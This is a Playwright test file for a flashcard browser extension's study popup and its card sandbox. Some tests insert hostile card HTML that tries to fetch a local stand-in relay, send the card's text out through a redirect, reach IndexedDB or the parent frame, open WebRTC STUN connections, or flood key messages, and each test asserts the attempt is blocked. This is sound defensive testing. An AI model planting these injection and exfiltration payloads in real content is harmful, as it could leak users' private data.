// Studying in the popup, the way a person does it: choose a deck, read the question, show the answer, answer with
// the keyboard, undo. And the card frame's sandbox: a hostile note's HTML and scripts run, but reach nothing.
import { createSocket } from "node:dgram";
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ExtensionBrowser, launchWithExtension, screenshot, testFolder } from "./browser";

let browser: ExtensionBrowser;
let manager: Page;
let server: Server;
let port = 0;
const hits: string[] = [];

beforeAll(async () => {
  // A stand-in for the relay that records every request reaching it: a card must never get here.
  server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" });
    response.end("ok");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  const folder = testFolder("study");
  browser = await launchWithExtension(path.join(folder, "profile"));
  manager = await browser.open("options.html#add");
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve));
});

async function addNote(front: string, back: string, deck = "Default") {
  await manager.goto(`chrome-extension://${browser.extensionId}/options.html#add`);
  await manager.locator("select[name=deck]").selectOption({ label: deck });
  await expect.poll(() => manager.locator("select[name=deck] option:checked").textContent()).toBe(deck);
  await manager.fill("textarea[name=field-0]", front);
  await manager.fill("textarea[name=field-1]", back);
  await manager.getByRole("button", { name: "Add", exact: true }).click();
  await expect.poll(() => manager.getByRole("status").textContent()).toBe("Added.");
}

async function addDeck(name: string) {
  await manager.goto(`chrome-extension://${browser.extensionId}/options.html#decks`);
  await manager.fill("input[name=newDeck]", name);
  await manager.getByRole("button", { name: "Create deck" }).click();
  await expect.poll(() => manager.locator(`tr[data-deck='${name}']`).count()).toBe(1);
}

async function openPopup(): Promise<Page> {
  const popup = await browser.open("popup.html");
  await popup.setViewportSize({ width: 480, height: 592 });
  return popup;
}

/** Counts of the profile's review log and cards, read straight from IndexedDB in an extension page. */
function collectionState(page: Page) {
  return page.evaluate(async () => {
    const open = indexedDB.open("collection:default");
    const db: IDBDatabase = await new Promise((resolve, reject) => {
      open.onsuccess = () => resolve(open.result);
      open.onerror = () => reject(open.error);
    });
    const read = <T>(store: string, fn: (s: IDBObjectStore) => IDBRequest<T>) =>
      new Promise<T>((resolve) => {
        const request = fn(db.transaction(store).objectStore(store));
        request.onsuccess = () => resolve(request.result);
      });
    const blocks = await read("revlogBlocks", (s) => s.getAll());
    const revlog = (blocks as { rows: unknown[] }[]).flatMap((block) => block.rows);
    const notes = await read("notes", (s) => s.getAll());
    const meta = await read("meta", (s) => s.get("collection"));
    db.close();
    return { revlog: revlog as { ease: number }[], notes: notes as { fields: string[] }[], meta };
  });
}

const questionText = (popup: Page) => popup.frameLocator("[data-testid=card-frame]").locator("#qa").textContent();

describe("studying in the popup", () => {
  it("studies three cards with the keyboard, undoes one, and the review log and due counts agree", async () => {
    await addNote("uno", "one");
    await addNote("dos", "two");
    await addNote("tres", "three");
    const popup = await openPopup();
    const row = popup.locator("tr[data-deck='Default'] td");
    await expect.poll(() => row.allTextContents()).toEqual(["Default", "3", "0", "0"]);
    await popup.getByRole("button", { name: "Default", exact: true }).click();

    await expect.poll(() => questionText(popup)).toBe("uno");
    expect(await popup.getByTestId("study-counts").textContent()).toBe("300");
    await screenshot(popup, "study-question", { docs: true });
    await popup.keyboard.press("Space");
    await expect.poll(() => questionText(popup)).toMatch(/uno\s*one/);
    // The buttons say when each answer brings the card back.
    await expect.poll(() => popup.locator("[data-ease='1'] .interval").textContent()).toBe("1m");
    expect(await popup.locator("[data-ease='3'] .interval").textContent()).toBe("10m");
    await screenshot(popup, "study-answer", { docs: true });
    await popup.keyboard.press("3");

    await expect.poll(() => questionText(popup)).toBe("dos");
    await popup.keyboard.press("Enter");
    await expect.poll(() => questionText(popup)).toMatch(/dos\s*two/);
    await popup.keyboard.press("1");

    await expect.poll(() => questionText(popup)).toBe("tres");
    await popup.keyboard.press("Space");
    await expect.poll(() => questionText(popup)).toMatch(/tres\s*three/);
    await popup.keyboard.press("4");
    await expect.poll(async () => (await collectionState(popup)).revlog.length).toBe(3);

    // Undo takes back the last answer: its review-log row goes and the card is asked again.
    await popup.keyboard.press("u");
    await expect.poll(() => popup.getByRole("status").textContent()).toBe("Answer undone.");
    await expect.poll(() => questionText(popup)).toBe("tres");
    const state = await collectionState(popup);
    expect(state.revlog.map((r) => r.ease).sort()).toEqual([1, 3]);

    // Night mode follows the browser: the card gets Anki's nightMode classes.
    await popup.emulateMedia({ colorScheme: "dark" });
    await popup.keyboard.press("Space");
    const body = popup.frameLocator("[data-testid=card-frame]").locator("body");
    await expect.poll(() => body.getAttribute("class")).toBe("card card1 nightMode night_mode");
    await screenshot(popup, "study-answer-night", { docs: true });
    await popup.emulateMedia({ colorScheme: "light" });

    await popup.keyboard.press("Escape");
    // One new card left; the two answered ones are learning.
    await expect.poll(() => row.allTextContents()).toEqual(["Default", "1", "2", "0"]);
    await screenshot(popup, "study-deck-list-after", { docs: true });
    await popup.close();
  });

  it("e opens the manager on the note being studied, with its editor open", async () => {
    const popup = await openPopup();
    await popup.getByRole("button", { name: "Default", exact: true }).click();
    await expect.poll(() => questionText(popup)).toMatch(/\S/);
    const question = ((await questionText(popup)) ?? "").trim();
    const opened = browser.context.waitForEvent("page");
    await popup.keyboard.press("e");
    const editor = await opened;
    await editor.waitForLoadState();
    expect(editor.url()).toMatch(/options\.html#browse\?q=nid%3A\d+$/);
    await expect.poll(() => editor.inputValue("textarea[name=field-0]").catch(() => "")).toBe(question);
    await editor.close();
    await popup.close();
  });

  it("shows the congratulations screen when a deck is done, with when its next card is due", async () => {
    await addDeck("Empty for now");
    const popup = await openPopup();
    await popup.getByRole("button", { name: "Empty for now", exact: true }).click();
    await expect.poll(() => popup.getByTestId("congrats").textContent()).toMatch(/finished this deck for now/);
    await screenshot(popup, "study-congratulations", { docs: true });
    await popup.keyboard.press("Escape");
    await expect.poll(() => popup.locator("tr[data-deck='Default']").count()).toBe(1);
    await popup.close();
  });

  it("the study keys work while the card holds the focus, and r and F5 play its sounds again", async () => {
    await addDeck("Focus");
    const beep = path.join(testFolder("study"), "beep.wav");
    writeFileSync(beep, wav(800));
    // The card's script counts what is played, puts the cursor in its own field and takes it back every 50 ms.
    const grab = [
      "<input id=grab autofocus><script>",
      "const root = document.documentElement;",
      "if (!window.counting) { window.counting = true; const play = HTMLMediaElement.prototype.play;",
      "HTMLMediaElement.prototype.play = function () { root.dataset.plays = String(Number(root.dataset.plays || 0) + 1);",
      "return play.call(this); }; }",
      "setInterval(() => document.getElementById('grab')?.focus(), 50);",
      "</script>",
    ].join("");
    await manager.goto(`chrome-extension://${browser.extensionId}/options.html#add`);
    await manager.locator("select[name=deck]").selectOption({ label: "Focus" });
    await manager.fill("textarea[name=field-0]", `listen ${grab} `);
    await manager.setInputFiles("input[name=field-0-media]", beep);
    await expect.poll(() => manager.inputValue("textarea[name=field-0]")).toMatch(/\[sound:beep\.wav\]$/);
    await manager.fill("textarea[name=field-1]", "a beep");
    await manager.getByRole("button", { name: "Add", exact: true }).click();
    await expect.poll(() => manager.getByRole("status").textContent()).toBe("Added.");
    await addNote(`typed ${grab}`, "typed back", "Focus");

    const popup = await openPopup();
    const logged = (await collectionState(popup)).revlog.length;
    await popup.getByRole("button", { name: "Focus", exact: true }).click();
    const card = popup.frameLocator("[data-testid=card-frame]");
    const plays = () => card.locator("html").getAttribute("data-plays");
    await expect.poll(() => questionText(popup)).toMatch(/^listen/);
    await expect.poll(plays).toBe("1");
    // The ▶ button takes the focus into the card, where the card's field keeps it.
    await card.locator("[data-sound]").click();
    await expect.poll(plays).toBe("2");
    expect(await card.locator("#grab").evaluate((input) => document.activeElement === input)).toBe(true);
    await popup.keyboard.press("r");
    await expect.poll(plays).toBe("3");
    await popup.keyboard.press("F5");
    await expect.poll(plays).toBe("4");
    expect(popup.url()).toMatch(/popup\.html$/);
    expect(await popup.getByRole("button", { name: /Replay/ }).count()).toBe(1);
    await screenshot(popup, "study-sound-card");
    await popup.keyboard.press("Space");
    await expect.poll(() => questionText(popup)).toMatch(/a beep/);
    expect(await card.locator("#grab").inputValue()).toBe("");
    await popup.keyboard.press("3");
    await expect.poll(() => questionText(popup)).toMatch(/^typed/);
    await expect.poll(async () => (await collectionState(popup)).revlog.length).toBe(logged + 1);

    // A field the person clicked into is theirs to type in; the study keys work again once they click outside it.
    await card.locator("#grab").click();
    await popup.keyboard.type("3 2");
    expect(await card.locator("#grab").inputValue()).toBe("3 2");
    expect(await questionText(popup)).toMatch(/^typed/);
    await popup.locator(".study-header").click();
    await popup.keyboard.press("Space");
    await expect.poll(() => questionText(popup)).toMatch(/typed back/);
    await popup.keyboard.press("Escape");
    await expect.poll(() => popup.locator("tr[data-deck='Focus']").count()).toBe(1);
    await popup.close();
  });

  it("runs a hostile card's HTML in the sandbox, where it reaches neither the collection nor the network", async () => {
    await addDeck("Hostile");
    const relay = `http://127.0.0.1:${port}`;
    const script = [
      "<script>",
      "const report = (k, v) => { document.body.dataset[k] = v; };",
      "report('ran', 'yes');",
      `fetch('${relay}/fetch').then(() => report('fetch', 'reached'), () => report('fetch', 'blocked'));`,
      "try { indexedDB.open('collection:default'); report('idb', 'opened'); } catch (e) { report('idb', 'refused'); }",
      "report('chrome', typeof chrome !== 'undefined' && chrome.storage ? 'available' : 'absent');",
      "try { report('parent', String(parent.document.title)); } catch (e) { report('parent', 'refused'); }",
      "</script>",
    ].join("");
    const front =
      `Hostile ${script}<img src="missing.png" onerror="document.body.dataset.onerror='ran';` +
      `fetch('${relay}/onerror').catch(()=>{})"><img src="${relay}/pixel.png">` +
      `<a id="js" href="javascript:fetch('${relay}/javascript')">link</a>`;
    await addNote(front, "back", "Hostile");
    const before = await collectionState(manager);

    const popup = await openPopup();
    await popup.getByRole("button", { name: "Hostile", exact: true }).click();
    const body = popup.frameLocator("[data-testid=card-frame]").locator("body");
    // The scripts did run (so the checks below mean something)...
    await expect.poll(() => body.getAttribute("data-ran")).toBe("yes");
    await expect.poll(() => body.getAttribute("data-onerror")).toBe("ran");
    // ...but the network, IndexedDB, the extension's APIs and the popup were out of reach.
    await expect.poll(() => body.getAttribute("data-fetch")).toBe("blocked");
    expect(await body.getAttribute("data-idb")).toBe("refused");
    expect(await body.getAttribute("data-chrome")).toBe("absent");
    expect(await body.getAttribute("data-parent")).toBe("refused");
    await popup.frameLocator("[data-testid=card-frame]").locator("#js").click();
    await popup.waitForTimeout(500);
    expect(hits).toEqual([]);

    const after = await collectionState(popup);
    expect(after.notes).toEqual(before.notes);
    expect(after.revlog).toEqual(before.revlog);
    expect(after.meta).toEqual(before.meta);
    await popup.close();
  });
  it("a card that sends its frame to an outside address reaches nothing, and later cards are never posted there", async () => {
    await addDeck("Leaky");
    await addDeck("Private");
    const relay = `http://127.0.0.1:${port}`;
    await addNote(`moving <script>location.href = '${relay}/leak?' + document.body.innerText;</script>`, "b", "Leaky");
    await addNote(`refreshing <meta http-equiv="refresh" content="0;url=${relay}/refresh">`, "b", "Leaky");
    await addNote("my secret question", "my secret answer", "Private");
    const popup = await openPopup();
    await popup.getByRole("button", { name: "Leaky", exact: true }).click();
    const stopped = "A card tried to load another page, which cards may not do, so it was stopped.";
    await expect.poll(() => popup.getByRole("status").textContent()).toBe(stopped);
    await popup.keyboard.press("-");
    await expect.poll(() => popup.getByRole("status").textContent()).toBe("Card buried until tomorrow.");
    // The refresh is refused before any request, and the card is stopped as well.
    await expect.poll(() => popup.getByRole("status").textContent(), { timeout: 10_000 }).toBe(stopped);
    await popup.keyboard.press("Escape");
    await popup.getByRole("button", { name: "Private", exact: true }).click();
    await expect.poll(() => questionText(popup), { timeout: 10_000 }).toBe("my secret question");
    await popup.keyboard.press("Space");
    await expect.poll(() => questionText(popup)).toMatch(/my secret answer/);
    await popup.waitForTimeout(500);
    expect(hits).toEqual([]);
    await popup.close();
  });

  it("a card gets no WebRTC: nothing reaches a STUN server, directly, through a nested frame or in a shadow root", async () => {
    const packets: number[] = [];
    const udp = createSocket("udp4");
    udp.on("message", (message) => packets.push(message.length));
    await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", () => resolve()));
    const stun = `stun:127.0.0.1:${udp.address().port}`;
    const call = (win: string, tag: string) =>
      `try { const pc = new ${win}.RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); pc.createDataChannel("x");` +
      ` pc.createOffer().then((o) => pc.setLocalDescription(o)); document.body.dataset.${tag} = "made"; }` +
      ` catch (e) { document.body.dataset.${tag} = "refused"; }`;
    const front = [
      "calling <script>",
      call("window", "direct"),
      'const f = document.createElement("iframe"); document.body.append(f);',
      `const w = f.contentWindow || window[0]; if (w) { ${call("w", "nested")} } else { document.body.dataset.nested = "no frame"; }`,
      'const root = document.createElement("div").attachShadow({ mode: "open" }); document.body.append(root.host);',
      'const g = document.createElement("iframe"); root.append(g);',
      `const s = g.contentWindow; if (s) { ${call("s", "shadow")} } else { document.body.dataset.shadow = "no frame"; }`,
      "</script>",
      `<iframe srcdoc="<script>${call("window", "srcdoc").replace(/"/g, "&quot;")} parent.document.body.dataset.srcdocRan = 'yes';</script>"></iframe>`,
    ].join("");
    await addDeck("Calling");
    await addNote(front, "b", "Calling");
    const popup = await openPopup();
    await popup.getByRole("button", { name: "Calling", exact: true }).click();
    const body = popup.frameLocator("[data-testid=card-frame]").locator("body");
    await expect.poll(() => body.getAttribute("data-direct")).toBe("refused");
    expect(await body.getAttribute("data-nested")).toMatch(/^(refused|no frame)$/);
    expect(await body.getAttribute("data-shadow")).toMatch(/^(refused|no frame)$/);
    await popup.waitForTimeout(2000);
    expect(await body.getAttribute("data-srcdoc-ran")).toBeNull();
    expect(packets).toEqual([]);
    udp.close();
    await popup.close();
  });

  it("a card's script ends with its card: the keys it keeps sending do nothing to the cards after it", async () => {
    await addDeck("Pressing");
    // This card's script asks the study screen to suspend the card shown (the key "@"), twenty times at once and
    // then every 100 ms: the keys queue, and must not reach the cards shown after it.
    const presser =
      "<script>const press = () => parent.postMessage({ type: 'key', key: '@', ctrl: false, meta: false, alt: false }, '*');" +
      "for (let i = 0; i < 20; i++) press(); setInterval(press, 100);</script>";
    await addNote(`first ${presser}`, "one", "Pressing");
    await addNote("second", "two", "Pressing");
    const popup = await openPopup();
    await popup.getByRole("button", { name: "Pressing", exact: true }).click();
    // The first card suspends itself (a card's script may press the study keys, as a person can)...
    await expect.poll(() => popup.getByRole("status").textContent(), { timeout: 10_000 }).toBe("Card suspended.");
    // ...and the second card, in a frame of its own, stays: the first card's script is gone.
    await expect.poll(() => questionText(popup), { timeout: 10_000 }).toBe("second");
    await popup.waitForTimeout(1500);
    expect(await questionText(popup)).toBe("second");
    const suspended = await popup.evaluate(async () => {
      const open = indexedDB.open("collection:default");
      const db: IDBDatabase = await new Promise((resolve) => {
        open.onsuccess = () => resolve(open.result);
      });
      const cards: { queue: number }[] = await new Promise((resolve) => {
        const request = db.transaction("cards").objectStore("cards").getAll();
        request.onsuccess = () => resolve(request.result);
      });
      db.close();
      return cards.filter((c) => c.queue === -1).length;
    });
    expect(suspended).toBe(1);
    await popup.close();
  });

  it("a card stuck in an endless loop leaves the popup usable, and the next card shows without reopening it", async () => {
    await addDeck("Loop");
    await addNote("spinning <script>for (;;) {}</script>", "b", "Loop");
    await addNote("after the loop", "b", "Loop");
    const popup = await openPopup();
    await popup.getByRole("button", { name: "Loop", exact: true }).click();
    await popup.waitForTimeout(1000);
    // The study screen still answers: the card is buried with "-", and the next one shows in a fresh frame.
    await popup.keyboard.press("-");
    await expect.poll(() => popup.getByRole("status").textContent()).toBe("Card buried until tomorrow.");
    await expect.poll(() => questionText(popup), { timeout: 20_000 }).toBe("after the loop");
    await popup.keyboard.press("Escape");
    await expect.poll(() => popup.locator("tr[data-deck='Loop']").count()).toBe(1);
    await popup.close();
  });

  it("a filtered deck built in the manager previews its cards in the popup, and Empty gives them back untouched", async () => {
    await addDeck("Verbs");
    await addNote("comer", "to eat", "Verbs");
    await addNote("beber", "to drink", "Verbs");
    await manager.goto(`chrome-extension://${browser.extensionId}/options.html#decks`);
    await manager.getByRole("button", { name: "Create filtered deck" }).click();
    await manager.fill("input[name=filteredName]", "Cram verbs");
    await manager.fill("input[name=filteredSearch]", "deck:Verbs");
    await manager.locator("select[name=filteredOrder]").selectOption({ label: "Order added" });
    await manager.getByLabel("Reschedule cards based on my answers in this deck").uncheck();
    await expect.poll(() => manager.locator(".filtered-form .hint").textContent()).toMatch(/Preview only/);
    await screenshot(manager, "manager-filtered-deck-form", { docs: true });
    await manager.getByRole("button", { name: "Build" }).click();
    await expect.poll(() => manager.getByRole("status").textContent()).toBe("Cram verbs holds 2 cards.");
    expect(await manager.locator("tr[data-deck='Cram verbs'] .filter-summary").textContent()).toBe(
      "Filtered: deck:Verbs",
    );
    expect(await manager.locator("tr[data-deck='Verbs'] td").nth(1).textContent()).toBe("0");
    await screenshot(manager, "manager-filtered-deck", { docs: true });

    // In the popup the filtered deck holds both cards, waiting as reviews; their own deck shows none.
    const popup = await openPopup();
    await expect
      .poll(() => popup.locator("tr[data-deck='Cram verbs'] td").allTextContents())
      .toEqual(["Cram verbs", "0", "0", "2"]);
    expect(await popup.locator("tr[data-deck='Verbs'] td").allTextContents()).toEqual(["Verbs", "0", "0", "0"]);
    await screenshot(popup, "popup-filtered-deck", { docs: true });
    const logged = (await collectionState(popup)).revlog.length;
    await popup.getByRole("button", { name: "Cram verbs", exact: true }).click();
    await expect.poll(() => questionText(popup)).toBe("comer");
    await popup.keyboard.press("Space");
    // Preview: Again comes back in a minute, Good ends the preview.
    await expect.poll(() => popup.locator("[data-ease='1'] .interval").textContent()).toBe("1m");
    expect(await popup.locator("[data-ease='3'] .interval").textContent()).toBe("(end)");
    await popup.keyboard.press("3");
    await expect.poll(() => questionText(popup)).toBe("beber");
    await popup.keyboard.press("Space");
    await popup.keyboard.press("1");
    await expect.poll(async () => (await collectionState(popup)).revlog.length).toBe(logged + 2);
    // Both answers are logged as filtered-deck answers (type 3), which do not count as reviews.
    const answers = (await collectionState(popup)).revlog.slice(-2) as { ease: number; type?: number }[];
    expect(answers.map((r) => [r.ease, r.type])).toEqual([
      [3, 3],
      [1, 3],
    ]);
    await popup.keyboard.press("Escape");
    // "comer" went home as it was, "beber" waits a minute in the filtered deck.
    await expect
      .poll(() => popup.locator("tr[data-deck='Verbs'] td").allTextContents())
      .toEqual(["Verbs", "1", "0", "0"]);
    await popup.close();

    await manager.goto(`chrome-extension://${browser.extensionId}/options.html#decks`);
    await manager.locator("tr[data-deck='Cram verbs']").getByRole("button", { name: "Empty" }).click();
    await expect.poll(() => manager.getByRole("status").textContent()).toBe("Emptied: 1 card back in their decks.");
    const back = await openPopup();
    await expect
      .poll(() => back.locator("tr[data-deck='Verbs'] td").allTextContents())
      .toEqual(["Verbs", "2", "0", "0"]);
    expect(await back.locator("tr[data-deck='Cram verbs'] td").allTextContents()).toEqual([
      "Cram verbs",
      "0",
      "0",
      "0",
    ]);
    await back.close();
  });
});

/** A short sine tone as a WAV file (16-bit mono, 8 kHz). */
function wav(samples: number): Buffer {
  const data = Buffer.alloc(samples * 2);
  for (let i = 0; i < samples; i++) data.writeInt16LE(Math.round(Math.sin(i / 4) * 8000), i * 2);
  const header = Buffer.alloc(44);
  header.write("RIFF", 0);
  header.writeUInt32LE(36 + data.length, 4);
  header.write("WAVEfmt ", 8);
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(8000, 24);
  header.writeUInt32LE(16_000, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write("data", 36);
  header.writeUInt32LE(data.length, 40);
  return Buffer.concat([header, data]);
}
